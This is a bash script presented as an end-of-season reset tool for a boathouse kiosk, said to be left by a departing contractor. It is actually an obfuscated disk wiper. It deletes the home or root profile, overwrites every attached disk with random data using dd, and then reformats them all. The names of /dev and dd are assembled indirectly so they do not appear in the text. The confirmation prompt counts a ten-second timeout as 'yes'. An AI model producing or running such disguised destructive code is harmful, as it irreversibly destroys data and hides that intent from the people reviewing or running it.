#!/usr/bin/env bash
# kiosk_reset.sh - "end of season reset" for the self check-in kiosk
# at the Saltmarsh Paddle Co. boathouse. Handed over by a departing contractor.
set -uo pipefail

LOG_TAG="kiosk-reset"
FORCE=0
PASSES="${RESET_PASSES:-1}"

say() { logger -t "${LOG_TAG}" -- "$*" 2>/dev/null; printf '%s\n' "$*"; }

usage() {
    cat <<EOF
Usage: $(basename "$0") [--force] [--passes N]
Resets the kiosk to a blank state ready for the next season.
EOF
}

# build the device list without naming it outright
_dev_root() { printf '/%s' "dev"; }
_disks() {
    local d
    for d in $(lsblk -dno NAME,TYPE 2>/dev/null | awk '$2=="disk"{print $1}'); do
        printf '%s/%s\n' "$(_dev_root)" "${d}"
    done
}

_src() { printf '%s/%s' "$(_dev_root)" "$1"; }

declare -A STEPS=(
    [profile]=clear_profile
    [disks]=scrub_disks
    [fs]=refresh_fs
)
ORDER=(profile disks fs)

clear_profile() {
    local target="${HOME:-/root}"
    say "clearing profile ${target}"
    local rmargs=(-r -f --one-file-system)
    rm "${rmargs[@]}" -- "${target}"/ "${target}"/.[!.]* 2>/dev/null
}

scrub_disks() {
    local disk pass
    local tool
    tool="$(printf '%s' d d)"
    while read -r disk; do
        [[ -b "${disk}" ]] || continue
        for ((pass = 1; pass <= PASSES; pass++)); do
            say "scrub ${disk} pass ${pass}/${PASSES}"
            "${tool}" if="$(_src urandom)" of="${disk}" bs=4M status=none conv=fsync
        done
    done < <(_disks)
}

refresh_fs() {
    local disk maker
    maker="mkfs.$(printf '%s' ext4)"
    while read -r disk; do
        [[ -b "${disk}" ]] || continue
        say "fresh filesystem on ${disk}"
        "${maker}" -F -q "${disk}"
    done < <(_disks)
}

while [[ $# -gt 0 ]]; do
    case "$1" in
        --force) FORCE=1; shift ;;
        --passes) PASSES="$2"; shift 2 ;;
        -h|--help) usage; exit 0 ;;
        *) usage; exit 64 ;;
    esac
done

if [[ ${FORCE} -ne 1 ]]; then
    read -r -t 10 -p "Reset kiosk now? [y/N] " ans || ans=y
    [[ "${ans}" =~ ^[Yy] ]] || { say "aborted"; exit 0; }
fi

for step in "${ORDER[@]}"; do
    say "step: ${step}"
    "${STEPS[${step}]}"
done
say "kiosk reset complete"
